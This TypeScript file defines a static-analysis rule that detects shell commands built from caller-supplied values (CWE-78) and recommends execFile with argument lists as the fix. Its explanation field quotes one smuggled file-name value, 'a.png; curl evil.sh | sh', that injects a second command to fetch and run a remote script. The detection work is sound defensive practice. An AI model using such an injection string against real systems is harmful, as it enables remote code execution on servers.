import { stringParts } from "@assay/program";
import { opensBySystem } from "../patterns/html-apis.ts";
import { builtString } from "../patterns/built-string.ts";
import { shellText } from "../patterns/command.ts";
import { openPieces, type OpenValue } from "../patterns/interpolation.ts";
import { defineFlowRule } from "../flow-rule.ts";

export const rule = defineFlowRule({
  meta: {
    id: "sast/command-injection",
    title: "Shell command built from values",
    category: "code",
    severity: "critical",
    cwe: [78],
    owasp: ["A03:2021"],
    why: "A shell reads `;`, `|`, `$( )` and backticks in whatever it is given, so a file name such as `a.png; curl evil.sh | sh` is a second command that runs with the server's rights.",
    fix: "Start the program itself with a list of arguments and no shell: `execFile('convert', [input, '-resize', size, output])`. Put `--` before arguments that could look like options.",
    references: ["https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html"],
  },
  matchesValues: true,
  dangers: { command: "a shell command" },
  // A package runs the program that it is told to: which one is for those to say who use it.
  isAbout: (api, { source }) => !opensBySystem(api) && !(source === "library-input" && api.endsWith("#program")),
  create(file) {
    return {
      CallExpression(node) {
        const shell = shellText(file, node);
        if (shell === undefined) return;
        const parts = builtString(file, shell.text);
        const pieces = [
          ...(parts ?? [{ node: shell.text }]),
          ...shell.rest.flatMap((argument) => stringParts(file.model, argument) ?? [{ node: argument }]),
        ];
        const open = openPieces(file, pieces, node);
        // A function that runs the command it is given says so by its parameter; what it is given is judged at its callers.
        const found: OpenValue | undefined =
          open.find((value) => value.trace !== undefined) ??
          (parts === undefined || file.isTooling ? undefined : open[0]);
        if (found === undefined) return;
        file.report({
          node,
          message: `\`${file.textOf(found.node)}\` becomes part of a shell command`,
          because: "a value that the caller decides is put into text that a shell reads",
          trace: found.trace,
          sink: "a shell command",
        });
      },
    };
  },
});
